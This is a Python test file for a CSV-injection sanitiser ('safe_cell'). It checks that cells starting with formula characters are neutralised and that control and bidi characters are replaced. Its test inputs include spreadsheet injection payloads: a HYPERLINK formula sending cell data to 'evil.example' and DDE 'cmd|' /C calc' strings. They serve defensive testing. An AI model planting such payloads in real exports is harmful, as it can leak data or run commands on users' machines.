import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.csv_safety import safe_cell

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Talks")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "  =1+1",
        "\t=1+1",
        "\r\n=1+1",
        "\uff1d1+1",
    ],
)
def test_a_formula_becomes_text(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["-12", "+3.5", "-1e-3", "2024-05-15", "Talks - again", "'quoted'", ""]
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [None, -3, 2.5, True, [1]])
def test_what_is_no_text_stays_as_it_is(value: object) -> None:
    assert safe_cell(value) is value


@pytest.mark.parametrize("mark", ["\x00", "\x1b", "\x07", "\x9b", "\u202e", "\u2066"])
def test_characters_that_nobody_sees_are_shown(mark: str) -> None:
    assert safe_cell(f"Chad{mark} and Libya") == "Chad\ufffd and Libya"


@given(text=st.text())
def test_no_cell_is_a_formula_and_a_reader_of_csv_gets_the_text_back(text: str) -> None:
    safe = safe_cell(text)
    assert isinstance(safe, str)
    out = io.StringIO(newline="")
    csv.writer(out).writerow([safe, "last"])
    [[back, _]] = csv.reader(io.StringIO(out.getvalue(), newline=""))
    assert back == safe
    is_number = safe.lstrip("+-").replace(".", "", 1).isascii() and _is_number(safe)
    assert is_number or not safe.startswith(BEGINNINGS)
    assert safe.removeprefix("'").count("\ufffd") >= text.count("\ufffd")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
